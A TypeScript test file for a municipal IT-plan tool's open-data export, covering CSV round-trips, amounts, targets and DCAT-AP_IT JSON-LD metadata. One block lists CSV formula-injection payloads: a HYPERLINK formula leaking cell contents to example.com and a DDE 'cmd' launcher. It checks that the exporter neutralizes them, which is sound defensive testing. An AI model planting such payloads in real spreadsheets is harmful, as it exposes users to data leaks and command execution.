import { parse } from 'csv-parse/sync';
import jsonld from 'jsonld';
import { describe, expect, it } from 'vitest';
import { exportFiles } from '../../src/documents/exports.js';
import { CSV_TABLE_NAMES, csvTables, dcatMetadata, toCsv } from '../../src/documents/open-data.js';
import type { PlanDocument } from '../../src/domain/model/interchange.js';
import { catalogSample, demoPlan, smallPlan } from './support.js';

type Row = Record<string, string>;

/** Parses a CSV the way a consumer would: RFC 4180, header row. */
function readCsv(text: string): Row[] {
  return parse(text, { columns: true, skip_empty_lines: true }) as Row[];
}

function csvOf(doc: PlanDocument, name: string): string {
  const table = csvTables(doc).find((t) => t.name === name);
  if (!table) throw new Error(`no table ${name}`);
  return toCsv(table);
}

const orEmpty = (v: string | number | null | undefined) =>
  v === null || v === undefined ? '' : String(v);

describe('open data as CSV', () => {
  it('writes one CSV per table, RFC 4180 with CRLF, UTF-8 without BOM', async () => {
    const files = await exportFiles(demoPlan(), 'csv');
    expect(files.map((f) => f.name)).toEqual(CSV_TABLE_NAMES.map((n) => `${n}.csv`));
    for (const f of files) {
      const text = f.body as string;
      expect(text.charCodeAt(0)).not.toBe(0xfeff);
      expect(text).toMatch(/^id,|^indicatorId,/);
      expect(text.endsWith('\r\n')).toBe(true);
      expect(f.contentType).toBe('text/csv; charset=utf-8; header=present');
    }
  });

  for (const [name, makeDoc] of [
    ['the demo plan', demoPlan],
    ['a small hand-made plan with commas, quotes and line breaks', smallPlan],
  ] as const) {
    it(`parses back to the plan’s own rows (${name})`, () => {
      const doc = makeDoc();
      const actions = readCsv(csvOf(doc, 'actions'));
      expect(actions).toHaveLength(doc.actions.length);
      doc.actions.forEach((a, i) => {
        const row = actions[i]!;
        expect(row.id).toBe(a.id);
        expect(row.title).toBe(a.title);
        expect(row.description).toBe(orEmpty(a.description));
        expect(row.priorityId).toBe(a.priorityId);
        expect(row.status).toBe(a.status);
        expect(Number(row.progress)).toBe(a.progress);
        expect(row.responsibles!.split('; ').filter(Boolean)).toEqual(a.responsibles);
        expect(row.expectedResults!.split('; ').filter(Boolean)).toEqual(a.expectedResults);
        expect(row['timing.text']).toBe(orEmpty(a.timing?.text));
        expect(row['timing.due']).toBe(orEmpty(a.timing?.due));
        expect(row.catalogRefs!.split('; ').filter(Boolean)).toEqual(a.catalogRefs);
      });

      const spending = readCsv(csvOf(doc, 'spending'));
      expect(
        spending.map((r) => [r.id, r.fundingSource, Number(r.amount), r.cup, r.status]),
      ).toEqual(
        doc.spending.map((s) => [s.id, s.fundingSource, s.amount, orEmpty(s.cup), s.status]),
      );

      const indicators = readCsv(csvOf(doc, 'indicators'));
      expect(indicators.map((r) => [r.id, r.name, r['baseline.value']])).toEqual(
        doc.indicators.map((i) => [i.id, i.name, orEmpty(i.baseline?.value)]),
      );

      const measurements = readCsv(csvOf(doc, 'measurements'));
      expect(measurements.map((r) => [r.indicatorId, r.date, Number(r.value), r.note])).toEqual(
        doc.indicators.flatMap((i) =>
          i.measurements.map((m) => [i.id, m.date, m.value, orEmpty(m.note)]),
        ),
      );

      const platforms = readCsv(csvOf(doc, 'platforms'));
      expect(platforms.map((r) => [r.platform, r.status, r.since, r.due])).toEqual(
        doc.platforms.map((p) => [p.platform, p.status, orEmpty(p.since), orEmpty(p.due)]),
      );
    });
  }

  it('gives the catalog titles of the linked codes beside them, in the same order', () => {
    const sample = catalogSample();
    const doc = demoPlan();
    doc.actions[0]!.catalogRefs.push(sample.foreign);
    const lookupTitle = (code: string) => (code === sample.linked ? sample.title : undefined);
    const table = csvTables(doc, { lookupTitle }).find((t) => t.name === 'actions')!;
    expect(table.columns.slice(-3)).toEqual(['catalogRefs', 'catalogTitles', 'pnrrMeasures']);
    const rows = readCsv(toCsv(table));
    const codes = rows[0]!.catalogRefs!.split('; ');
    const titles = rows[0]!.catalogTitles!.split('; ');
    expect(codes).toEqual(doc.actions[0]!.catalogRefs);
    expect(titles).toHaveLength(codes.length);
    expect(titles[codes.indexOf(sample.linked)]).toBe(sample.title);
    expect(titles.at(-1)).toBe('');
    // Without a catalog (or when no code has a title) the column is empty.
    expect(readCsv(csvOf(doc, 'actions')).every((r) => r.catalogTitles === '')).toBe(true);
  });

  it('keeps the amounts to the cent', () => {
    const doc = demoPlan();
    const rows = readCsv(csvOf(doc, 'spending'));
    const cents = rows.reduce((sum, r) => sum + Math.round(Number(r.amount) * 100), 0);
    expect(cents).toBe(65003750);
    for (const r of rows) expect(r.amount).toMatch(/^\d+\.\d{2}$/);
    expect(rows.map((r) => r.amount)).toContain('14820.50');
  });

  it('computes relative targets from the baseline', () => {
    const rows = readCsv(csvOf(demoPlan(), 'targets'));
    const ind1 = rows.filter((r) => r.indicatorId === 'i1');
    expect(ind1.map((r) => [r.year, r.kind, r.value, r.targetValue])).toEqual([
      ['2025', 'relative_percent', '40', '8568'],
      ['2026', 'relative_percent', '80', '11016'],
      ['2027', 'relative_percent', '100', '12240'],
    ]);
  });
});

const DCATAPIT = 'http://dati.gov.it/onto/dcatapit#';
const DCAT = 'http://www.w3.org/ns/dcat#';
const DCT = 'http://purl.org/dc/terms/';
const FOAF = 'http://xmlns.com/foaf/0.1/';

type Node = Record<string, unknown[]> & { '@id'?: string; '@type'?: string[] };
const first = (node: Node, property: string) => node[property]?.[0] as Node & { '@value'?: string };

describe('CSV cells that a spreadsheet would run as formulas', () => {
  const PAYLOADS = [
    '=HYPERLINK("http://example.com/"&A1,"clic")',
    "+cmd|' /C calc'!A0",
    '@SUM(A1:A9)',
    '-2+3',
    '\t=1+1',
    '\r=1+1',
  ];
  const FREE_TEXT = new Set([
    'title',
    'name',
    'description',
    'notes',
    'responsibles',
    'expectedResults',
    'unit',
    'source',
  ]);

  /** The demo plan with every free-text field turned into one of the payloads. */
  function poisonedPlan(): PlanDocument {
    let n = 0;
    const next = () => PAYLOADS[n++ % PAYLOADS.length]!;
    const walk = (value: unknown): unknown => {
      if (Array.isArray(value)) return value.map(walk);
      if (value === null || typeof value !== 'object') return value;
      const out: Record<string, unknown> = {};
      for (const [key, v] of Object.entries(value)) {
        if (FREE_TEXT.has(key) && typeof v === 'string') out[key] = next();
        else if (FREE_TEXT.has(key) && Array.isArray(v))
          out[key] = v.map((x) => (typeof x === 'string' ? next() : walk(x)));
        else out[key] = walk(v);
      }
      return out;
    };
    return walk(demoPlan()) as PlanDocument;
  }

  it('writes no text cell of any table that begins with =, +, -, @, tab or carriage return', async () => {
    const files = await exportFiles(poisonedPlan(), 'csv');
    let neutralized = 0;
    for (const f of files) {
      const rows = parse(f.body as string, { skip_empty_lines: true }) as string[][];
      for (const cell of rows.flat()) {
        if (/^-?\d+(\.\d+)?$/.test(cell)) continue; // a number, negative ones included
        expect(cell, `${f.name}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
        if (cell.startsWith("'") && PAYLOADS.includes(cell.slice(1))) neutralized++;
      }
    }
    expect(neutralized).toBeGreaterThan(20);
  });

  it('keeps the text after a leading apostrophe, and numbers (negative ones too) as they are', () => {
    const table = {
      name: 'spending',
      columns: ['description', 'amount'],
      rows: [['=1+1', -1500.5]],
    };
    const [row] = parse(toCsv(table as never), {
      skip_empty_lines: true,
      from_line: 2,
    }) as string[][];
    expect(row).toEqual(["'=1+1", '-1500.5']);
  });
});

describe('DCAT-AP_IT metadata', () => {
  const base = 'https://piano.example.it/api/plans/123/exports/';
  const doc = demoPlan();
  const metadata = dcatMetadata(doc, { baseUrl: base, modified: '2025-11-01' });

  it('is valid JSON-LD that expands to a dcatapit:Dataset with the required properties', async () => {
    const expanded = (await jsonld.expand(structuredClone(metadata) as never)) as Node[];
    expect(expanded).toHaveLength(1);
    const dataset = expanded[0]!;
    expect(dataset['@id']).toBe(`${base}dataset.jsonld#dataset`);
    expect(dataset['@type']).toEqual(
      expect.arrayContaining([`${DCATAPIT}Dataset`, `${DCAT}Dataset`]),
    );
    expect(first(dataset, `${DCT}identifier`)['@value']).toBe(
      'c_z999:piano-triennale-informatica-2025-2027',
    );
    expect(first(dataset, `${DCT}title`)['@value']).toContain(doc.plan.title);
    expect(first(dataset, `${DCT}description`)['@value']).toBeTruthy();
    expect(first(dataset, `${DCT}modified`)).toEqual({
      '@value': '2025-11-01',
      '@type': 'http://www.w3.org/2001/XMLSchema#date',
    });
    expect(first(dataset, `${DCT}issued`)['@value']).toBe('2025-04-17');
    expect(first(dataset, `${DCAT}theme`)['@id']).toBe(
      'http://publications.europa.eu/resource/authority/data-theme/GOVE',
    );
    expect(first(dataset, `${DCT}accrualPeriodicity`)['@id']).toBe(
      'http://publications.europa.eu/resource/authority/frequency/ANNUAL',
    );
    for (const role of [`${DCT}publisher`, `${DCT}rightsHolder`]) {
      const agent = first(dataset, role);
      expect(agent['@type']).toContain(`${DCATAPIT}Agent`);
      expect(first(agent, `${DCT}identifier`)['@value']).toBe('c_z999');
      expect(first(agent, `${FOAF}name`)['@value']).toBe('Comune di Valdimonte');
    }
    const contact = first(dataset, `${DCAT}contactPoint`);
    expect(contact['@type']).toContain(`${DCATAPIT}Organization`);
    expect(first(contact, 'http://www.w3.org/2006/vcard/ns#hasEmail')['@id']).toBe(
      'mailto:rtd@comune.valdimonte.example.it',
    );
  });

  it('describes every distribution with format, URLs and the CC BY 4.0 licence', async () => {
    const [dataset] = (await jsonld.expand(structuredClone(metadata) as never)) as Node[];
    const distributions = dataset![`${DCAT}distribution`] as Node[];
    const ids = distributions.map((d) => d['@id']);
    expect(ids).toEqual(
      expect.arrayContaining([
        `${base}plan.json`,
        `${base}actions.csv`,
        `${base}spending.csv`,
        `${base}indicators.csv`,
        `${base}measurements.csv`,
        `${base}platforms.csv`,
        `${base}plan.pdf`,
      ]),
    );
    for (const d of distributions) {
      expect(d['@type']).toEqual(
        expect.arrayContaining([`${DCATAPIT}Distribution`, `${DCAT}Distribution`]),
      );
      expect(first(d, `${DCAT}accessURL`)['@id']).toBe(d['@id']);
      expect(first(d, `${DCAT}downloadURL`)['@id']).toBe(d['@id']);
      expect(first(d, `${DCT}format`)['@id']).toMatch(
        /^http:\/\/publications\.europa\.eu\/resource\/authority\/file-type\/(CSV|JSON|PDF|HTML|DOCX)$/,
      );
      const license = first(d, `${DCT}license`);
      expect(license['@id']).toBe('https://creativecommons.org/licenses/by/4.0/');
      expect(license['@type']).toContain(`${DCATAPIT}LicenseDocument`);
      expect(first(d, `${DCT}title`)['@value']).toBeTruthy();
    }
  });

  it('adds the missing slash to a base URL and uses relative IRIs without one', () => {
    const noSlash = dcatMetadata(doc, {
      baseUrl: 'https://dati.example.it/piano',
      modified: '2025-11-01',
    });
    const urls = (noSlash['dcat:distribution'] as { '@id': string }[]).map((d) => d['@id']);
    expect(urls).toContain('https://dati.example.it/piano/actions.csv');
    const relative = dcatMetadata(doc, { modified: '2025-11-01' });
    expect((relative['dcat:distribution'] as { '@id': string }[])[0]!['@id']).toBe('plan.json');
  });

  it('converts to RDF with absolute IRIs only', async () => {
    const nquads = (await jsonld.toRDF(structuredClone(metadata) as never, {
      format: 'application/n-quads',
    })) as unknown as string;
    expect(nquads).toContain(
      `<${base}actions.csv> <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <${DCATAPIT}Distribution>`,
    );
    const iris = [...nquads.matchAll(/<([^>]+)>/g)].map((m) => m[1]!);
    for (const iri of iris) expect(iri).toMatch(/^(https?|mailto|urn):/);
  });
});
